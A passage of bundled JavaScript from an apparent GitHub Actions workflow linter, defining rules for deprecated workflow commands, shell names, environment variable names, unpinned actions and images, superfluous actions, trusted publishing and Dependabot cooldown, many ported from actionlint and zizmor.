                    context.report(first.file, first.script, `${where}: the ${count} were not checked; install it (apt-get install shellcheck, brew install shellcheck) or set shellcheck.path in .github/phase-gates.yml`, 'note');
                    return;
                }
                if (result.kind === 'failed') {
                    context.report(first.file, first.script, `${result.reason}: the ${count} were not checked`, 'note');
                    return;
                }
                result.comments.forEach((comments, i) => {
                    const { file, script } = scripts[i];
                    for (const c of comments) {
                        if (isExpressionArtefact(script, c) || isDeliberateList(script, c) || isGitRevision(script, c))
                            continue;
                        const f = shellcheckFinding(script, c);
                        context.report(file, { at: f.at }, f.message, f.level);
                    }
                });
            }
        };
    }
};
/* harmony default export */ const shellcheck = (shellcheck_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/scripts/deprecated-commands.js

/** actionlint's deprecatedCommandsPattern. */
const PATTERN = /::(save-state|set-output|set-env)\s+name=[a-zA-Z][a-zA-Z_-]*::\S+|::(add-path)::\S+/g;
/** What each command is replaced by: a line appended to one of the runner's files. */
const INSTEAD = {
    'set-output': 'echo "{name}={value}" >> "$GITHUB_OUTPUT"',
    'save-state': 'echo "{name}={value}" >> "$GITHUB_STATE"',
    'set-env': 'echo "{name}={value}" >> "$GITHUB_ENV"',
    'add-path': 'echo "{path}" >> "$GITHUB_PATH"'
};
/** Most findings of one script (a generated script may repeat a command thousands of times). */
const MOST_PER_SCRIPT = 100;
const deprecated_commands_rule = {
    id: 'PG131',
    name: 'deprecated-commands',
    level: 'warning',
    description: 'Deprecated workflow commands printed by a `run:` script: `::set-output`, `::save-state` (deprecated), `::set-env`, `::add-path` (disabled).',
    help: 'GitHub deprecated the `set-output` and `save-state` workflow commands in October 2022 (https://github.blog/changelog/2022-10-11-github-actions-deprecating-save-state-and-set-output-commands/) and disabled `set-env` and `add-path` in November 2020, after a security advisory: a log line of untrusted text could set any variable or path (https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/); the runner fails a step that uses them unless `ACTIONS_ALLOW_UNSECURE_COMMANDS` is set. Append to the runner\'s files instead: `echo "name=value" >> "$GITHUB_OUTPUT"` (outputs), `"$GITHUB_STATE"` (state), `"$GITHUB_ENV"` (environment), `echo "/dir" >> "$GITHUB_PATH"` (path). `set-output` and `save-state` are warnings, `set-env` and `add-path` errors. Every `run:` script is read, whatever its shell, as actionlint does.',
    create(context) {
        return {
            step(step, _owner, file) {
                const run = shell_valueOf(step.token, 'run');
                if (!run)
                    return;
                const script = positionedScript(file.file, run);
                if (!script || !script.text.includes('::'))
                    return;
                let found = 0;
                for (const m of script.text.matchAll(PATTERN)) {
                    if (found++ >= MOST_PER_SCRIPT)
                        break;
                    const command = m[1] ?? m[2];
                    const disabled = command === 'set-env' || command === 'add-path';
                    const what = disabled ? 'is disabled (the runner fails the step unless ACTIONS_ALLOW_UNSECURE_COMMANDS is set)' : 'is deprecated';
                    context.report(file.file, { at: script.posAt(m.index) }, `workflow command "${command}" ${what}; use \`${INSTEAD[command]}\` instead: https://docs.github.com/en/actions/using-workflows/workflow-commands-for-github-actions`, disabled ? 'error' : 'warning');
                }
            }
        };
    }
};
/* harmony default export */ const deprecated_commands = (deprecated_commands_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/scripts/shell-name.js

/** The shells GitHub names (https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idstepsshell), by platform. */
const SHELLS = {
    any: ['bash', 'pwsh', 'python', 'sh', 'cmd', 'powershell'],
    windows: ['bash', 'pwsh', 'python', 'cmd', 'powershell'],
    unix: ['bash', 'pwsh', 'python', 'sh']
};
const ON = { any: '', windows: ' on Windows', unix: ' on macOS or Linux' };
const shell_name_rule = {
    id: 'PG132',
    name: 'shell-name',
    level: 'error',
    description: 'A `shell:` (of a step, or `defaults.run.shell`) that is not one of bash, pwsh, python, sh, cmd, powershell, or not one the runner\'s OS has.',
    help: "GitHub runs a `run:` script with a shell it knows by name: `bash`, `pwsh`, `python` and `sh` on Linux and macOS, `bash`, `pwsh`, `python`, `cmd` and `powershell` on Windows; anything else must be a command template with `{0}` (the script's file), such as `perl {0}` or `bash -l {0}`. A name outside these (a typo such as `bsh`, or `cmd` on an `ubuntu-*` runner) fails the step when it starts. Names are compared ignoring case; a `shell:` made of an expression and a template with `{0}` are not checked. As actionlint does, the OS is the job's `runs-on:` label (`windows-*`, `ubuntu-*`, `macos-*`, `linux`); a workflow's `defaults.run.shell` is checked against every OS.",
    create(context) {
        const check = (file, token, platform) => {
            const value = tokenText(token);
            if (!token || value === undefined || value.includes('{0}') || value.includes('${{'))
                return;
            const name = value.toLowerCase();
            const available = SHELLS[platform];
            if (available.includes(name))
                return;
            const on = SHELLS.any.includes(name) ? ON[platform] : '';
            const list = [...available].sort().map((s) => `"${s}"`).join(', ');
            context.report(file, { at: tokenPos(token) }, `shell name "${value}" is invalid${on}: available names are ${list}, or a command with {0} (such as "bash -l {0}")`);
        };
        const platforms = new WeakMap();
        return {
            workflowPre(workflow) {
                check(workflow.file, defaultShell(workflow.root), 'any');
            },
            jobPre(job, workflow) {
                const platform = platformOf(job);
                platforms.set(job, platform);
                if (job.runsOn)
                    check(workflow.file, defaultShell(job.token), platform);
            },
            step(step, owner, file) {
                if (!shell_valueOf(step.token, 'run'))
                    return;
                const platform = 'kind' in owner ? 'any' : (platforms.get(owner) ?? 'any');
                check(file.file, shell_valueOf(step.token, 'shell'), platform);
            }
        };
    }
};
/* harmony default export */ const shell_name = (shell_name_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/scripts/env-var-name.js
/** PG133 env-var-name: an `env:` name with `&`, `=` or a space, which no shell can read. */


const env_var_name_rule = {
    id: 'PG133',
    name: 'env-var-name',
    level: 'error',
    description: 'An environment variable name in `env:` (of the workflow, a job, a step, a container or a service) that holds `&`, `=`, a space or a tab.',
    help: "An environment variable is `NAME=value` to the operating system: a name with `=` is cut at it, and a name with `&`, a space or a tab cannot be written as `$NAME` in any shell, so the value never reaches the script that expects it. Rename the variable (letters, digits and `_`, as `FOO_BAR`). A name made with `${{ }}` is not checked (it is known only when the job runs), as in actionlint.",
    create(context) {
        const check = (file, env) => {
            if (!env || !(0,dist/* isMapping */.pi)(env))
                return;
            for (const pair of env) {
                if (!(0,dist/* isString */.Kg)(pair.key))
                    continue;
                const name = pair.key.value;
                if (name.includes('${{') || !/[&= \t]/.test(name))
                    continue;
                context.report(file, { at: tokenPos(pair.key) }, `environment variable name ${JSON.stringify(name)} is invalid: '&', '=' and spaces cannot be in a name; use letters, digits and "_"`);
            }
        };
        return {
            workflowPre(workflow) {
                check(workflow.file, shell_valueOf(workflow.root, 'env'));
            },
            jobPre(job, workflow) {
                check(workflow.file, shell_valueOf(job.token, 'env'));
                if (job.container && (0,dist/* isMapping */.pi)(job.container))
                    check(workflow.file, shell_valueOf(job.container, 'env'));
                if (job.services && (0,dist/* isMapping */.pi)(job.services))
                    for (const s of job.services)
                        check(workflow.file, shell_valueOf(s.value, 'env'));
            },
            step(step, _owner, file) {
                check(file.file, shell_valueOf(step.token, 'env'));
            }
        };
    }
};
/* harmony default export */ const env_var_name = (env_var_name_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/scripts/index.js




const scripts_family = {
    name: 'scripts',
    title: 'Scripts',
    description: 'The shell scripts of `run:` steps.',
    rules: [shellcheck, deprecated_commands, shell_name, env_var_name]
};
/* harmony default export */ const scripts = (scripts_family);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/uses.js
function parseUses(uses) {
    const value = uses?.trim() ?? '';
    if (!value || value.startsWith('./') || value.startsWith('docker://') || value.includes('${{'))
        return undefined;
    const at = value.lastIndexOf('@');
    const [owner, repo, ...rest] = (at < 0 ? value : value.slice(0, at)).split('/');
    if (!owner || !repo)
        return undefined;
    return { owner, repo, path: rest.join('/'), ref: at < 0 ? '' : value.slice(at + 1) };
}
/** `owner/repo`, lower case. */
function repoName(uses) {
    return `${uses.owner}/${uses.repo}`.toLowerCase();
}
/**
 * Whether a repository pattern of zizmor's configuration is well formed: `*`, `owner/*`,
 * `owner/repo/*`, `owner/repo`, `owner/repo/path`, each but the wildcards optionally `@ref`.
 */
function validUsesPattern(pattern) {
    if (pattern === '*')
        return true;
    return /^[\w.-]+\/(\*|[\w.-]+(\/\*|(\/[^@*\s]+)?(@[^@*\s]+)?))$/.test(pattern);
}
/** Whether `uses` matches a repository pattern (owner and repo case-insensitive; path and ref exact). */
function matchesUsesPattern(uses, pattern) {
    if (pattern === '*')
        return true;
    const at = pattern.indexOf('@');
    const ref = at < 0 ? undefined : pattern.slice(at + 1);
    const [owner, repo, ...rest] = (at < 0 ? pattern : pattern.slice(0, at)).split('/');
    if (owner.toLowerCase() !== uses.owner.toLowerCase())
        return false;
    if (repo === '*')
        return true;
    if (repo.toLowerCase() !== uses.repo.toLowerCase())
        return false;
    const path = rest.join('/');
    if (path === '*')
        return true;
    return path === uses.path && (ref === undefined || ref === uses.ref);
}
/** Hooks that call `check` with every `uses:` of a run: reusable-workflow jobs and steps. */
function everyUses(check) {
    return {
        jobPre(job, workflow) {
            check(workflow.file, job.uses);
        },
        step(step, _owner, file) {
            check(file.file, step.uses);
        }
    };
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/unpinned-action.js


const SHA = /^[0-9a-f]{40}$/;
const DIGEST = /@sha256:[0-9a-f]{64}$/;
/** Whether `allow.owners` or `allow.actions` (`owner/repo`, `owner/*`, `owner/repo/path`) trusts this action. */
function allowed(action, settings) {
    const lower = action.toLowerCase();
    const owner = lower.split('/')[0];
    if (settings.allowOwners.some((o) => o.toLowerCase() === owner))
        return true;
    return settings.allowActions.some((pattern) => {
        const p = pattern.toLowerCase().replace(/@.*$/, '');
        const re = new RegExp(`^${p.replace(/[.+?^${}()|[\]\\]/g, '\\$&').replace(/\*/g, '[^/]*')}(?:/.*)?$`);
        return re.test(lower);
    });
}
const unpinned_action_rule = {
    id: 'PG201',
    name: 'unpinned-action',
    level: 'warning',
    description: 'A `uses:` of another repository not pinned to a full 40-character commit SHA, or a `docker://` image not pinned by `@sha256:` digest.',
    help: 'A tag (`@v4`) or branch (`@main`) can be moved by whoever controls the action\'s repository, and the next run executes the new code with your token and secrets (as in the tj-actions/changed-files compromise). Pin `owner/repo@<40-hex sha> # v4.2.2` and let Dependabot or Renovate update the SHA; pin `docker://image@sha256:<digest>`. Local actions (`./…`) and self-repository references (`$/…`, which run the workflow\'s own commit) are part of the repository and exempt. Every owner is third-party here, `actions/*` and `github/*` included; trust owners or actions in `.github/phase-gates.yml` with `allow: { owners: [acme], actions: [acme/deploy] }`.',
    create(context) {
        const check = (file, uses) => {
            const value = uses?.value.trim();
            if (!uses || !value || isLocalUses(value) || value.includes('${{'))
                return;
            if (value.startsWith('docker://')) {
                const image = value.slice('docker://'.length);
                if (DIGEST.test(image) || allowed(image, context.settings))
                    return;
                context.report(file, uses, `image "${value}" is not pinned by digest; use docker://${image.replace(/@.*$/, '').replace(/:[^/:]*$/, '')}@sha256:<digest>`);
                return;
            }
            const at = value.lastIndexOf('@');
            const action = at < 0 ? value : value.slice(0, at);
            const ref = at < 0 ? '' : value.slice(at + 1);
            if (SHA.test(ref) || allowed(action, context.settings))
                return;
            const pinned = ref ? `${action}@<40-hex commit sha> # ${ref}` : `${action}@<40-hex commit sha>`;
            context.report(file, uses, `"${value}" is not pinned to a full commit SHA${ref ? ` ("${ref}" can be moved)` : ''}; use ${pinned}`);
        };
        return everyUses(check);
    }
};
/* harmony default export */ const unpinned_action = (unpinned_action_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/mutable-image.js
/** PG205 mutable-image: container, service and `docker://` images with `:latest` or no tag. */

/** The image of `container:` (a string, or a mapping with `image:`) or of a service. */
function imageOf(token) {
    if (!token)
        return undefined;
    if ((0,dist/* isString */.Kg)(token))
        return token;
    if (!(0,dist/* isMapping */.pi)(token))
        return undefined;
    for (const pair of token)
        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === 'image')
            return pair.value;
    return undefined;
}
/** What is mutable about an image reference: `:latest`, no tag, or nothing (a version tag or a digest). */
function mutability(image) {
    if (!image || image.includes('${{') || image.includes('@'))
        return undefined;
    const last = image.split('/').pop() ?? '';
    const colon = last.indexOf(':');
    if (colon < 0)
        return 'untagged';
    return last.slice(colon + 1).toLowerCase() === 'latest' ? 'latest' : undefined;
}
const mutable_image_rule = {
    id: 'PG205',
    name: 'mutable-image',
    level: 'warning',
    description: 'A `container:`, `services:` or `docker://` image with the `:latest` tag or no tag at all.',
    help: 'An image without a tag means `:latest`, which points to whatever was pushed last: the job changes under you between two runs, and whoever can push the image controls what runs. Use a version tag (`postgres:16.4`) or, better, a digest (`postgres@sha256:…`, which PG201 asks for `docker://` steps).',
    create(context) {
        const check = (file, token, what) => {
            if (!token || !(0,dist/* isString */.Kg)(token))
                return;
            const image = token.value.trim().replace(/^docker:\/\//, '');
            const kind = mutability(image);
            if (!kind)
                return;
            const node = { at: token.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 } };
            const why = kind === 'latest' ? 'uses the mutable tag :latest' : 'has no tag, so it means :latest';
            context.report(file, node, `${what} image "${image}" ${why}; pin a version tag or a digest (@sha256:…)`);
        };
        return {
            jobPre(job, workflow) {
                check(workflow.file, imageOf(job.container), `container`);
                if (job.services && (0,dist/* isMapping */.pi)(job.services)) {
                    for (const pair of job.services) {
                        const name = (0,dist/* isString */.Kg)(pair.key) ? pair.key.value : '';
                        check(workflow.file, imageOf(pair.value), `service "${name}"`);
                    }
                }
            },
            step(step, _owner, file) {
                const uses = step.uses?.value ?? '';
                if (!uses.startsWith('docker://'))
                    return;
                const token = step.token.find('uses');
                check(file.file, token, 'step');
            }
        };
    }
};
/* harmony default export */ const mutable_image = (mutable_image_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/superfluous-actions.js

/**
 * zizmor's list (crates/zizmor/src/audit/superfluous_actions.rs, default persona): the action and
 * what to run instead. Its pedantic entries (peter-evans/create-pull-request and
 * create-or-update-comment, dtolnay/rust-toolchain, stefanzweifel/git-auto-commit-action,
 * EndBug/add-and-commit) are left out, as zizmor leaves them out by default.
 */
const SUPERFLUOUS = new Map([
    ['ncipollo/release-action', '`gh release`'],
    ['softprops/action-gh-release', '`gh release`'],
    ['elgohr/github-release-action', '`gh release`'],
    ['dacbd/create-issue-action', '`gh issue create`'],
    ['actions-ecosystem/action-add-labels', '`gh issue edit --add-label` or `gh pr edit --add-label`'],
    ['actions-ecosystem/action-remove-labels', '`gh issue edit --remove-label` or `gh pr edit --remove-label`'],
    ['svenstaro/upload-release-action', '`gh release create` and `gh release upload`'],
    ['addnab/docker-run-action', '`docker run` (or a container step)'],
    ['sergeysova/jq-action', '`jq`']
]);
const superfluous_actions_rule = {
    id: 'PG222',
    name: 'superfluous-actions',
    level: 'note',
    description: 'A third-party action that only wraps a tool every GitHub-hosted runner has (`gh release`, `gh issue edit`, `docker run`, `jq`): one more dependency for nothing.',
    help: 'Every action is code of another party that runs with the job\'s token: it can be compromised, retagged or abandoned. `softprops/action-gh-release`, `actions-ecosystem/action-add-labels`, `sergeysova/jq-action` and the like do what `gh`, `docker` or `jq`, preinstalled on GitHub\'s runners, do in one `run:` line. Replace the step with that line (`gh release create "$TAG" dist/* --notes-file NOTES.md` with `GH_TOKEN: ${{ github.token }}`). The list is zizmor\'s superfluous-actions (its default entries).',
    create(context) {
        return {
            step(step, _owner, file) {
                const uses = parseUses(step.uses?.value);
                const instead = uses && SUPERFLUOUS.get(repoName(uses));
                if (instead && step.uses)
                    context.report(file.file, step.uses, `"${uses.owner}/${uses.repo}" only wraps a tool the runner already has; use ${instead} in a run: step instead`);
            }
        };
    }
};
/* harmony default export */ const superfluous_actions = (superfluous_actions_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/tokens.js
/**
 * Token helpers shared by the rules ported from zizmor's audits (injection, supply-chain and
 * permissions families): a key of a mapping with its position, the text a scalar holds, and the
 * first `${{ }}` of a text.
 */

/** The position of a token (1:1 when it has none). */
function tokens_posOf(token) {
    return token?.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 };
}
/** A node at a token's position, for `report`. */
function nodeOf(token) {
    return { at: tokens_posOf(token) };
}
/** The `key: value` entry of a mapping token, the key positioned. */
function entryOf(token, key) {
    if (!token || !(0,dist/* isMapping */.pi)(token))
        return undefined;
    for (const pair of token) {
        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === key)
            return { key: { value: key, at: tokens_posOf(pair.key) }, value: pair.value };
    }
    return undefined;
}
/**
 * The text a scalar holds after YAML decoding, `${{ }}` as written: a plain string, or the source
 * of a string GitHub's parser turned into an expression. Undefined for mappings and sequences.
 */
function textOf(token) {
    if (!token)
        return undefined;
    if ((0,dist/* isString */.Kg)(token))
        return token.value;
    if ((0,dist/* isBasicExpression */.hR)(token))
        return token.source ?? token.toDisplayString();
    if ((0,dist/* isLiteral */.c$)(token))
        return token.toString();
    return undefined;
}
/** The first `${{ … }}` of `text` (quotes inside respected), with its offset; undefined when none closes. */
function firstFence(text) {
    const start = text.indexOf('${{');
    if (start < 0)
        return undefined;
    let quote = false;
    for (let i = start + 3; i < text.length - 1; i++) {
        const c = text[i];
        if (c === "'")
            quote = !quote;
        else if (!quote && c === '}' && text[i + 1] === '}')
            return { start, end: i + 2 };
    }
    return undefined;
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/misfeature.js


/** `defaults: run: shell:` of a job or workflow mapping. */
function misfeature_defaultShell(token) {
    return entryOf(entryOf(entryOf(token, 'defaults')?.value, 'run')?.value, 'shell');
}
/** A shell's program name: `C:\Windows\cmd.exe /D {0}` → `cmd.exe` (zizmor's normalize_shell). */
function shellName(shell) {
    const program = shell.trim().split(' ')[0];
    return program.split(/[/\\]/).pop() ?? program;
}
const misfeature_rule = {
    id: 'PG223',
    name: 'misfeature',
    level: 'warning',
    description: 'Features of GitHub Actions best left unused: `shell: cmd` for `run:` steps (a step, job or workflow default), and `actions/setup-python`\'s `pip-install:`.',
    help: '`cmd` has no grammar to speak of and several line-continuation rules, so neither reviewers nor analysers (script injection, `$GITHUB_ENV` writes) can tell what a script does; it has not been the Windows default since 2019: use `shell: pwsh` or `bash`. `actions/setup-python`\'s `pip-install:` installs into the runner\'s global Python, which differs across runners and versions: create a virtual environment and install there. Same as zizmor\'s misfeature audit (its auditor-only finding on other unknown shells is left out).',
    create(context) {
        return {
            step(step, owner, file) {
                const uses = parseUses(step.uses?.value);
                const pip = uses && repoName(uses) === 'actions/setup-python' ? step.with.get('pip-install') : undefined;
                if (pip)
                    context.report(file.file, pip.key, 'pip-install: installs packages into the runner\'s global Python, which differs across runners and versions; create a virtual environment and pip install there in a run: step');
                if (!step.run)
                    return;
                const own = entryOf(step.token, 'shell');
                const job = file.kind === 'workflow' && 'id' in owner ? misfeature_defaultShell(owner.token) : undefined;
                const top = file.kind === 'workflow' ? misfeature_defaultShell(file.root) : undefined;
                const [shell, where] = own ? [own, 'this step'] : job ? [job, 'the job default'] : top ? [top, 'the workflow default'] : [undefined, ''];
                const name = shell && textOf(shell.value);
                if (!shell || !name || !/^cmd(\.exe)?$/i.test(shellName(name)))
                    return;
                context.report(file.file, shell.key, `shell: cmd (${where}) runs scripts no reviewer or analyser can read reliably; use shell: pwsh or shell: bash`);
            }
        };
    }
};
/* harmony default export */ const misfeature = (misfeature_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/forbidden-uses.js

const forbidden_uses_rule = {
    id: 'PG224',
    name: 'forbidden-uses',
    level: 'error',
    description: 'A `uses:` of an action or reusable workflow that `forbidden-uses:` in `.github/phase-gates.yml` forbids: not on its `allow:` list, or on its `deny:` list.',
    help: 'An organization may admit only reviewed actions (`forbidden-uses: { allow: [actions/*, acme/*] }`) or ban known-bad ones (`forbidden-uses: { deny: [some-org/*] }`). Patterns are zizmor\'s repository patterns: `*`, `owner/*`, `owner/repo/*` (any path), `owner/repo` and `owner/repo/path` (that exact path, any ref), each of the last two optionally with `@ref`. Without the setting the rule finds nothing. Local actions and `docker://` images are not matched, as in zizmor\'s forbidden-uses audit.',
    create(context) {
        const policy = context.settings.forbiddenUses;
        const check = (file, uses) => {
            const parsed = policy && parseUses(uses?.value);
            if (!policy || !parsed || !uses)
                return;
            const match = policy.patterns.find((p) => matchesUsesPattern(parsed, p));
            if (policy.mode === 'deny' && match)
                context.report(file, uses, `"${uses.value.trim()}" is forbidden by forbidden-uses.deny ("${match}"); use an allowed action or a run: step`);
            if (policy.mode === 'allow' && !match)
                context.report(file, uses, `"${uses.value.trim()}" is not on the forbidden-uses.allow list (${policy.patterns.map((p) => `"${p}"`).join(', ') || 'empty'}); use an allowed action or a run: step`);
        };
        return everyUses(check);
    }
};
/* harmony default export */ const forbidden_uses = (forbidden_uses_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/use-trusted-publishing.js
/**
 * PG225 use-trusted-publishing: publishing to PyPI, npm, crates.io, RubyGems or NuGet with a
 * stored token where the registry supports trusted publishing (OIDC).
 */




const PYPI = ['https://upload.pypi.org/legacy/', 'https://test.pypi.org/legacy/'];
const RUBYGEMS = ['https://rubygems.org'];
const NPMJS = ['https://registry.npmjs.org', 'https://registry.npmjs.org/'];
/** A `with:` input's text, undefined when absent. */
function use_trusted_publishing_input(w, name) {
    const e = w.get(name);
    return e ? (textOf(e.value) ?? '') : undefined;
}
/** An input that is absent or one of `known`. */
const knownOrAbsent = (value, known) => value === undefined || known.includes(value.trim());
/**
 * zizmor's KNOWN_TRUSTED_PUBLISHING_ACTIONS: the action, when a step configures it with a manual
 * credential, and the input that says so.
 */
const ACTIONS = new Map([
    ['pypa/gh-action-pypi-publish', (w) => (use_trusted_publishing_input(w, 'password') !== undefined && knownOrAbsent(use_trusted_publishing_input(w, 'repository-url'), PYPI) && knownOrAbsent(use_trusted_publishing_input(w, 'repository_url'), PYPI) ? 'password' : undefined)],
    ['rubygems/release-gem', (w) => (use_trusted_publishing_input(w, 'setup-trusted-publisher')?.trim().toLowerCase() === 'false' ? 'setup-trusted-publisher' : undefined)],
    ['rubygems/configure-rubygems-credentials', (w) => (use_trusted_publishing_input(w, 'api-token') !== undefined && knownOrAbsent(use_trusted_publishing_input(w, 'gem-server'), RUBYGEMS) ? 'api-token' : undefined)],
    ['actions/setup-node', (w) => (knownOrAbsent(use_trusted_publishing_input(w, 'registry-url'), NPMJS) && use_trusted_publishing_input(w, 'always-auth')?.trim().toLowerCase() === 'true' ? 'always-auth' : undefined)]
]);
/** Whether a command line publishes to a registry that has trusted publishing (zizmor's is_publish_command). */
function isPublishCommand(cmd, args) {
    const has = (a) => args.includes(a);
    const dry = has('--dry-run');
    const after = (a) => args.slice(args.indexOf(a) + 1);
    switch (cmd) {
        case 'cargo':
            return has('publish') && !dry && !has('-n');
        case 'uv': {
            const first = args.find((a) => a === 'publish' || a === 'run');
            if (first === 'publish')
                return !dry;
            return first === 'run' && after('run').includes('twine') && after('twine').includes('upload');
        }
        case 'uvx':
            return args.some((a) => a.startsWith('twine')) && has('upload');
        case 'hatch':
        case 'pdm':
            return has('publish');
        case 'poetry':
            return has('publish') && !dry;
        case 'npm':
        case 'pnpm':
        case 'bun': {
            // `pnpm dlx pkg-pr-new publish` (vitejs/vite), `npm exec …`, `bun x …`: `publish` is another tool's.
            const runner = args.findIndex((a) => ['dlx', 'exec', 'x', 'run', 'run-script'].includes(a));
            const publish = args.indexOf('publish');
            return publish >= 0 && (runner < 0 || runner > publish) && !dry;
        }
        case 'twine':
            return has('upload');
        case 'pipx':
            return has('run') && args.some((a) => a.startsWith('twine')) && has('upload');
        case 'gem':
            return has('push');
        case 'bundle':
            return has('exec') && has('gem') && has('push');
        case 'yarn': {
            // `yarn <name> …` other than publish/npm runs a script or a package's binary (`yarn pkg-pr-new publish`).
            const first = args.find((a) => !a.startsWith('-'));
            return first === 'publish' || (first === 'npm' && after('npm').includes('publish') && !dry && !has('-n'));
        }
        case 'bunx':
            return args.some((a) => a === 'npm' || a.startsWith('npm@')) && has('publish') && !dry;
        case 'nuget':
        case 'nuget.exe':
            return has('push');
        case 'dotnet':
            return has('nuget') && has('push');
        default:
            return cmd.startsWith('python') && has('-m') && has('twine') && has('upload');
    }
}
/**
 * Simple commands of a shell script with the 0-based line and column where each starts: lines
 * joined at a trailing `\\` (bash) or `` ` `` (PowerShell), split at `;`, `&` and `|` (no full
 * shell grammar), leading `VAR=value` assignments skipped.
 */
function commands(script) {
    const out = [];
    const lines = script.split('\n');
    for (let i = 0; i < lines.length; i++) {
        const first = i;
        let text = lines[i];
        while (/[\\`]\s*$/.test(text) && i + 1 < lines.length)
            text = text.replace(/[\\`]\s*$/, ' ') + lines[++i];
        const re = /[^;&|]+/g;
        for (let m = re.exec(text); m; m = re.exec(text)) {
            const part = m[0].replace(/#.*$/, '');
            const lead = /^\s*/.exec(part)[0].length;
            const words = part.trim().split(/\s+/).filter(Boolean).map((w) => w.replace(/^['"]|['"]$/g, ''));
            let start = 0;
            while (start < words.length && /^[A-Za-z_]\w*=/.test(words[start]))
                start++;
            for (const prefix of ['sudo', 'exec', 'time'])
                if (words[start] === prefix)
                    start++;
            // A column past the first line's end belongs to a joined line; the command starts on the first.
            if (start < words.length)
                out.push({ words: words.slice(start), line: first, column: Math.min(m.index + lead, lines[first].length) });
        }
    }
    return out;
}
/** Whether the job's token may request an OIDC token (`id-token: write`, or `write-all`), at job or workflow level. */
function hasIdToken(job, workflow) {
    const perms = job.permissions ?? workflow.permissions?.value;
    if (!perms)
        return false;
    if ((0,dist/* isString */.Kg)(perms))
        return perms.value.trim() === 'write-all';
    return textOf(entryOf(perms, 'id-token')?.value)?.trim() === 'write';
}
/** The file position of a 0-based line and column of a `run:` script. */
function scriptPos(run, lines, line, column) {
    const r = run.range;
    const header = (lines[r.start.line - 1] ?? '').slice(r.start.column - 1);
    if (!/^[|>]/.test(header))
        return { line: r.start.line, column: r.start.column + column + (/^['"]/.test(header) ? 1 : 0) };
    const first = lines[r.start.line] ?? '';
    const indent = /^ */.exec(first)[0].length;
    return { line: r.start.line + 1 + line, column: indent + column + 1 };
}
const use_trusted_publishing_rule = {
    id: 'PG225',
    name: 'use-trusted-publishing',
    level: 'note',
    description: 'A package published to PyPI, npm, crates.io, RubyGems or NuGet with a stored token (a publishing action given a password or token, or `npm publish`, `twine upload`, `cargo publish`, … in a job without `id-token: write`), where the registry offers trusted publishing.',
    help: 'A long-lived registry token in the repository\'s secrets can be stolen and used from anywhere until someone revokes it. These registries accept trusted publishing instead: the job asks GitHub for a short-lived OIDC token (`permissions: { id-token: write }`) and the registry trusts that repository and workflow only. Configure the trusted publisher on the registry, drop the `password:`/`api-token:` input (or `always-auth:`), and give the publishing job `id-token: write`. Same as zizmor\'s use-trusted-publishing audit; commands are found line by line (`&&`, `;` and `|` split them), not with a full shell grammar.',
    create(context) {
        const checkAction = (step, report) => {
            const uses = parseUses(step.uses?.value);
            const check = uses && ACTIONS.get(repoName(uses));
            const via = check?.(step.with);
            const key = entryOf(step.token, 'uses')?.key;
            if (via && key)
                report(key.at, `"${uses.owner}/${uses.repo}" publishes with a stored credential (${via}:); configure trusted publishing on the registry, drop ${via}: and give the job id-token: write`);
        };
        return {
            step(step, owner, file) {
                checkAction(step, (at, message) => context.report(file.file, { at }, message));
                if (file.kind !== 'workflow' || !('id' in owner) || hasIdToken(owner, file))
                    return;
                const run = entryOf(step.token, 'run')?.value;
                const script = textOf(run);
                if (!run?.range || !script)
                    return;
                const shell = textOf(entryOf(step.token, 'shell')?.value);
                if (shell && !['bash', 'sh', 'zsh', 'pwsh', 'powershell'].includes(shellName(shell)))
                    return;
                const lines = file.file.text.split('\n');
                for (const c of commands(script)) {
                    if (!isPublishCommand(c.words[0], c.words.slice(1)))
                        continue;
                    const at = scriptPos(run, lines, c.line, c.column);
                    context.report(file.file, { at }, `"${c.words.join(' ')}" publishes with a stored token from a job without id-token: write; configure trusted publishing on the registry and give the job id-token: write`);
                }
            }
        };
    }
};
/* harmony default export */ const use_trusted_publishing = (use_trusted_publishing_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/dependabot-cooldown.js
/** zizmor's default minimum `cooldown.default-days`. */
const MIN_COOLDOWN_DAYS = 7;
/** Dependabot's own cooldown when none is configured, as zizmor takes it. */
const DEPENDABOT_DEFAULT_DAYS = 3;
const dependabot_cooldown_rule = {
    id: 'PG228',
    name: 'dependabot-cooldown',
    level: 'warning',
    description: `An \`updates:\` entry of \`.github/dependabot.yml\` without \`cooldown: { default-days: ${MIN_COOLDOWN_DAYS} }\` or more: new releases are proposed before the community has had time to spot a compromised one.`,
    help: `Compromised releases of popular packages (and actions) are usually found and pulled within days. With a cooldown, Dependabot waits that many days after a release before proposing it, so that a malicious version rarely reaches your lock file. Set \`cooldown: { default-days: ${MIN_COOLDOWN_DAYS} }\` (or more) on every \`updates:\` entry; security updates are not delayed by it. Read from \`.github/dependabot.yml\` (or \`.yaml\`) of the workspace, or a Dependabot file given in \`paths\`. Same as zizmor's dependabot-cooldown audit with its default of ${MIN_COOLDOWN_DAYS} days, except that every entry is checked (zizmor stops at the first entry with enough days).`,
    create(context) {
        return {
            dependabot(config) {
                for (const update of config.updates) {
                    const what = update.ecosystem ? `the ${update.ecosystem.value} updates${update.directory ? ` of ${update.directory.value}` : ''}` : 'this update';
                    const set = update.cooldownDefaultDays;
                    if (set) {
                        const days = Number(set.days);
                        if (Number.isFinite(days) && days >= MIN_COOLDOWN_DAYS)
                            continue;
